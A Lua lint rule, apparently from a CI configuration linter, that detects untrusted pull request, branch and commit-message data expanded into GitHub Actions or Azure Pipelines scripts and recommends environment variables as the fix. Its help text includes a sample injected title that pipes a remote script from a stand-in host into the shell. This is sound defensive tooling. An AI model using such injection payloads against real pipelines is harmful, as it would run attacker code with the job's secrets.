-- security.untrusted-input-in-script: text an outsider controls, pasted into a script by the CI system before
-- the shell reads it (pipeline model).
local pl = tg.lib("pipeline")
-- Azure Pipelines macros expanded into the script text: the commit message and the pull request's branch.
local AZURE = tg.re([=[\$\((Build\.SourceVersionMessage|System\.PullRequest\.SourceBranch|Build\.SourceBranchName|Build\.SourceBranch)\)]=])

-- The first untrusted value pasted into line: its column (1-based, in bytes) and text.
local function first_untrusted(line, azure)
  if azure then
    local a, _, name = AZURE:find(line)
    return a, name
  end
  return pl.untrusted_expression(line)
end

return {
  id = "security.untrusted-input-in-script",
  title = "Untrusted event data is pasted into a CI script",
  severity = "high",
  tags = { "security", "pipeline" },
  applies_to = { "pipeline" },
  help = [[
GitHub `${{ }}` expressions and Azure `$(...)` macros are replaced in the script's text before the shell runs
it. When the value comes from a pull request title or branch, an issue or comment body, or a commit message,
whoever wrote it writes shell: a title such as `"; curl evil.sh | sh; "` runs with the job's token and secrets.
Reported at each such expression in a `run:`/`script:` and in `actions/github-script`'s `script:`. Fix: pass the
value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`, then `"$TITLE"`).
See docs/rules/security/untrusted-input-in-script.md.]],
  references = {
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
  },
  check = function(doc, ctx)
    local azure = doc.root.dialect == "azure-pipelines"
    local reported = {}
    local function scan(map, key)
      if map == nil or map[key] == nil then return end
      local s = tg.span(map, key)
      for n = s.line, s.end_line do
        local line = doc:line(n)
        local a, expr = first_untrusted(line, azure)
        if a and not reported[n] then
          reported[n] = true
          ctx:report{ at = { line = n, col = utf8.len(line:sub(1, a - 1)) + 1 },
            message = "'" .. tg.excerpt(expr, 60) .. "' is chosen by whoever opens the issue, pull request or commit, and is pasted into the script as code" }
        end
      end
    end
    for _, job in ipairs(doc.root.jobs) do
      for _, step in ipairs(job.steps) do
        scan(step, "run")
        if step.uses and step.uses.ref:match("^actions/github%-script@") then scan(step.with, "script") end
      end
    end
  end,
}
